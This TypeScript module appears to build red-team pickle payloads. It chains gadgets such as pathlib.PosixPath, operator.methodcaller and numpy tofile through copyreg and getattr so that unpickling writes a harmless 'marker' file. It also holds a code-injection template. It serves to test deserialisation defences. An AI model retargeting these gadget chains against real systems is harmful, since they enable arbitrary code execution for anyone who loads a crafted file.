import {
  ascii,
  bytes,
  call,
  emptyList,
  int,
  mark,
  none,
  type Part,
  stackGlobal,
  tuple,
  unicode,
} from './assemble.ts';

/** A file that a reader of our own source would write; each was seen to work with the real library. */
export interface RedTeamSample {
  readonly id: string;
  /** Who runs the payload: a way of loading, as a person would write it. */
  readonly loader: string;
  readonly bytes: Uint8Array;
}

export const marker: string = 'marker';
export const writes: string = `open('${marker}', 'w').close()`;
export const template: string = `\ndef _parse_args(self, *a): pass\n${writes}\n`;

export function tupleOf(...items: Part[]): Part {
  return [mark, ...items, tuple];
}

export function listOf(...items: Part[]): Part {
  return [emptyList, mark, ...items, ascii('e')];
}

export const normal: Part = call(
  stackGlobal('copyreg', '_reconstructor'),
  stackGlobal('scipy.stats._continuous_distns', 'norm_gen'),
  stackGlobal('builtins', 'object'),
  none,
);
export const path: Part = call(stackGlobal('pathlib', 'PosixPath'), unicode(marker));
export const writer: Part = call(
  stackGlobal('operator', 'methodcaller'),
  unicode('write_text'),
  unicode('x'),
);
export const touch: Part = call(
  stackGlobal('operator', 'methodcaller'),
  unicode('touch'),
  int(438),
  bytes(0x89),
);
export const tofile: Part = call(
  stackGlobal('builtins', 'getattr'),
  call(
    stackGlobal('numpy._core.multiarray', '_reconstruct'),
    stackGlobal('numpy', 'ndarray'),
    tupleOf(int(0)),
    unicode('b'),
  ),
  unicode('tofile'),
);

export function sample(id: string, loader: string, content: Uint8Array): RedTeamSample {
  return { id, loader, bytes: content };
}
